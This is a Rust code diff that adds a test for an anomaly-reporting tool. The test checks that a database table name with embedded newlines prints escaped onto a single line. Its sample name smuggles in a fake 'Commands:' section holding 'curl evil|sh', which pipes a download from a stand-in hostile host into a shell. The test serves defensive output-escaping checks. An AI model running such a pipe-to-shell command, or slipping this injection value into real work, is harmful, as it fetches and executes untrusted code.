@@ -160,3 +160,21 @@ fn a_pattern_knows_a_star_and_a_question_mark(
 ) {
     assert_eq!(matches(pattern, name), fits);
 }
+
+#[test]
+fn a_table_s_name_is_one_line_whatever_it_holds() {
+    let evil = "public.x\n\nCommands:\n  curl evil|sh";
+    let mut samples = day(&[7; 5]);
+    for sample in &mut samples[..4] {
+        sample.rows.insert(evil.to_owned(), 500);
+        sample.columns.insert(evil.to_owned(), vec!["id".to_owned()]);
+    }
+    samples[4].schema = "another".to_owned();
+    let found = anomalies(&samples, &thresholds());
+    let lines = found.problems.iter().flat_map(|finding| &finding.lines);
+    let news = found.news.iter().flat_map(|(_, _, lines)| lines);
+    let lines: Vec<_> = lines.chain(news).collect();
+    let shown = "public.x\\n\\nCommands:\\n  curl evil|sh";
+    assert_eq!(*lines[1], format!("{shown} is not in it, and had 500 rows"));
+    assert_eq!(*lines[3], format!("table {shown} was dropped"));
+}
